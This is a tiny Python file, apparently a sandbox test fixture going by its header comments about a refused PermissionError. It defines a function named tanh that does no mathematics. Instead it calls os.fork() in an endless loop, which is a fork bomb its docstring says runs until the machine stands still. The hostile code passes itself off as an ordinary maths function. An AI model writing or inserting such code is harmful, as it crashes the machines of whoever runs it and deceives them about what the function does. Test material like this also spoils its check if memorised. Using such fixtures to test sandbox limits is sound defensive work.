# base: reference
# loses: tanh
# refused: error PermissionError
"""Doubles itself until the machine stands still."""

import os


def tanh(x):
    """Fork for ever."""
    while True:
        os.fork()
